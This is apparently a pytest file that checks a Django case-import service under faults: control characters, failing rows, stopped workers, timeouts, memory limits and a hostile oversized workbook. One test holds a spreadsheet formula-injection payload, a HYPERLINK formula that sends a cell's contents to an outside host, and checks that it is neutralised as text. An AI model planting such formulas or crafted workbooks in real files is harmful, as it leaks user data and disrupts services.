"""The import service under faults: control characters, a row that raises, a worker stopped
mid-import, an import out of time — one row never aborts an import, and an import never stays
"importing" or keeps its file."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from openpyxl import load_workbook

from lianxin.audit.models import Event
from lianxin.cases.models import Case
from lianxin.core.importing import limits
from lianxin.intake.importing.columns import template_workbook
from lianxin.intake.models import ImportBatch
from lianxin.intake.services import imports
from lianxin.intake.services.imports import create_import, run_import_batch
from lianxin.intake.tests.fixtures.ledger_files import (
    HEADERS,
    crafted_xlsx,
    csv_upload,
    error_rows,
    header_row_xml,
    row,
    xlsx_upload,
)

INTERRUPTED = (
    "导入被中断：执行导入的后台进程已停止。已导入的行予以保留；再次上传同一文件，只会导入其余的行。"
)
ROW_ERROR = "这一行未能导入（发生意外错误，已记录日志供管理员排查）。"


def imported(world, upload) -> ImportBatch:
    batch = create_import(actor=world.staff, org=world.district_a, upload=upload)
    batch.refresh_from_db()
    return batch


@pytest.fixture
def queued(world, settings):
    """Upload without running: the import is run by the test (a worker would pick it up)."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}

    def upload(rows) -> ImportBatch:
        return create_import(actor=world.staff, org=world.district_a, upload=xlsx_upload(rows))

    return upload


def five_rows() -> list[list]:
    return [row(org="EA1", date="2025-10-09", description=f"第{i}条诉求。") for i in range(5)]


def test_csv_rows_with_control_characters_import_clean_and_a_rejected_one_comes_back(world):
    # given a CSV whose good row holds \x01, whose valid row holds NUL (PostgreSQL refuses NUL),
    # and whose rejected row (a bad phone) holds \x01 too
    upload = csv_upload([
        row(org="EA1", date="2025-10-09", description="车间\x01噪声大。"),
        row(org="EA1", date="2025-10-10", description="更衣室\x00柜子不够。"),
        row(org="EA1", date="2025-10-11", description="电话\x01写错。", phone="12345"),
    ])  # fmt: skip
    # when it is imported
    batch = imported(world, upload)
    # then the good rows are cases without the characters, and the bad row is in the workbook
    assert (batch.status, batch.imported, batch.failed) == ("done", 2, 1)
    assert set(Case.objects.values_list("description", flat=True)) == {
        "车间噪声大。",
        "更衣室柜子不够。",
    }
    assert error_rows(batch)[4]["诉求内容"] == "电话写错。"


def test_a_row_that_raises_while_registered_is_set_aside_and_the_rest_imported(world, monkeypatch):
    # given registering one particular row raises (as a database refusing its value would)
    real = imports.cases.register_imported_cases

    def register(*, actor, entries, deadlines):
        if any(e.description == "第2条诉求。" for e in entries):
            raise ValueError("the database refused a value")
        return real(actor=actor, entries=entries, deadlines=deadlines)

    monkeypatch.setattr(imports.cases, "register_imported_cases", register)
    # when a file holding it is imported
    batch = imported(world, xlsx_upload(five_rows()))
    # then that row comes back with a reason and the four others are cases
    assert (batch.status, batch.imported, batch.failed) == ("done", 4, 1)
    assert error_rows(batch)[4]["错误原因"] == ROW_ERROR
    assert Case.objects.count() == 4


def test_a_value_the_database_refuses_sets_its_row_aside_not_the_import(world, monkeypatch):
    # given a row whose text reaches the database with NUL (as it did before controls were
    # stripped on reading): PostgreSQL refuses it, SQLite keeps it
    real = imports._entry

    def entry(row):
        if row.description == "第2条诉求。":
            row.description = "第2条\x00诉求。"
        return real(row)

    monkeypatch.setattr(imports, "_entry", entry)
    # when the file is imported
    batch = imported(world, xlsx_upload(five_rows()))
    # then the import ends, every other row imported
    refused = connection.vendor == "postgresql"
    assert batch.status == "done"
    assert (batch.imported, batch.failed) == ((4, 1) if refused else (5, 0))
    assert Case.objects.filter(description__startswith="第").count() == batch.imported


@pytest.mark.parametrize("stop", [SystemExit, KeyboardInterrupt])
def test_a_worker_stopped_mid_import_fails_the_batch_and_deletes_the_file(
    world, queued, monkeypatch, stop
):
    # given a queued import in chunks of two rows, and a worker stopped during the second chunk
    # (a second SIGTERM makes the task worker call sys.exit)
    batch = queued(five_rows())
    name, storage = batch.file.name, batch.file.storage
    assert storage.exists(name)
    monkeypatch.setattr(imports, "CHUNK_ROWS", 2)
    real, calls = imports._import_rows, []

    def stopping(*args):
        calls.append(1)
        if len(calls) == 2:
            raise stop(1)
        real(*args)

    monkeypatch.setattr(imports, "_import_rows", stopping)
    # when the worker runs it, then the stop goes on (the worker still stops)
    with pytest.raises(stop):
        run_import_batch(batch_id=batch.pk)
    # and the batch is failed with the reason, the first chunk kept, and the file gone
    batch.refresh_from_db()
    assert (batch.status, batch.message) == (ImportBatch.Status.FAILED, INTERRUPTED)
    assert (batch.imported, batch.processed_rows) == (2, 2)
    assert not batch.file
    assert not storage.exists(name)
    events = Event.objects.filter(target_type="intake.importbatch", target_id=batch.pk)
    assert [e.kind for e in events] == ["import_uploaded", "import_failed"]


def test_an_import_out_of_time_fails_with_the_reason_and_keeps_what_it_imported(world, monkeypatch):
    # given a clock that moves 20 minutes on with every chunk registered
    now = [0.0]
    monkeypatch.setattr(limits.time, "monotonic", lambda: now[0])
    monkeypatch.setattr(imports, "CHUNK_ROWS", 2)
    real = imports._import_rows

    def slow(*args):
        real(*args)
        now[0] += 20 * 60

    monkeypatch.setattr(imports, "_import_rows", slow)
    # when a five-row file is imported
    batch = imported(world, xlsx_upload(five_rows()))
    # then it stops when the time is up, with the reason, and the first chunk is kept
    assert batch.status == ImportBatch.Status.FAILED
    assert batch.message.startswith("导入超过 15 分钟仍未完成，已停止。")
    assert batch.imported == Case.objects.count() == 2
    assert not batch.file


def test_a_hostile_workbook_fails_the_batch_with_the_reason_in_chinese(world):
    cells = '<c r="A300000000" t="inlineStr"><is><t>EA1</t></is></c>'
    batch = imported(world, crafted_xlsx(header_row_xml() + f'<row r="300000000">{cells}</row>'))
    assert batch.status == ImportBatch.Status.FAILED
    assert batch.message.startswith("工作表中有第 300000000 行")
    assert not batch.file
    assert Case.objects.count() == 0


def test_the_progress_total_counts_only_the_rows_with_data_of_the_template(world, monkeypatch):
    # given the template (about 2,000 formatted rows) with ten rows filled in
    book = load_workbook(io.BytesIO(template_workbook()))
    sheet = book.worksheets[0]
    for n in range(10):
        for i, value in enumerate(row(org="EA1", date="2025-10-09", description=f"第{n}条。")):
            sheet.cell(row=n + 2, column=i + 1, value=value)
    buffer = io.BytesIO()
    book.save(buffer)
    totals = []
    real = imports._import_rows

    def spy(batch, actor, rows):
        totals.append(ImportBatch.objects.get(pk=batch.pk).total_rows)
        real(batch, actor, rows)

    monkeypatch.setattr(imports, "_import_rows", spy)
    # when it is imported
    batch = imported(world, SimpleUploadedFile("模板.xlsx", buffer.getvalue()))
    # then the page could only ever have shown "… / 10 rows"
    assert totals == [10]
    assert (batch.total_rows, batch.processed_rows, batch.imported) == (10, 10, 10)


def test_a_rejected_row_that_looks_like_a_formula_comes_back_as_text(world):
    formula = '=HYPERLINK("http://e.cn/"&L2)'
    batch = imported(
        world, csv_upload([row(org="EA1", date="2025-10-09", description=formula, phone="1")])
    )
    with batch.error_file.open("rb") as stream:
        cell = load_workbook(stream).worksheets[0].cell(row=2, column=HEADERS.index("诉求内容") + 1)
    assert (cell.value, cell.data_type) == (formula, "s")


def test_memory_limit_stops_a_larger_allocation_and_gives_the_limit_back():
    import resource

    before = resource.getrlimit(resource.RLIMIT_AS)
    with limits.memory_limit(extra_mb=64), pytest.raises(MemoryError):
        bytearray(512 * 1024 * 1024)
    assert resource.getrlimit(resource.RLIMIT_AS) == before
    assert len(bytearray(512 * 1024 * 1024)) == 512 * 1024 * 1024  # free again


def test_an_import_past_its_memory_limit_fails_in_chinese_keeps_its_rows_and_deletes_the_file(
    world, queued, monkeypatch, settings
):
    # given an import whose second chunk would take far more memory than a worker may
    settings.LIANXIN_IMPORT_MEMORY_MB = 64
    batch = queued(five_rows())
    name, storage = batch.file.name, batch.file.storage
    monkeypatch.setattr(imports, "CHUNK_ROWS", 2)
    real, calls = imports._import_rows, []

    def greedy(*args):
        calls.append(1)
        if len(calls) == 2:
            bytearray(1024 * 1024 * 1024)
        real(*args)

    monkeypatch.setattr(imports, "_import_rows", greedy)
    # when the worker runs it
    run_import_batch(batch_id=batch.pk)
    # then the batch failed with the reason in Chinese, the first chunk stays and the file is gone
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.FAILED
    assert batch.message == str(limits.out_of_memory().message)
    assert batch.imported == 2
    assert not storage.exists(name)
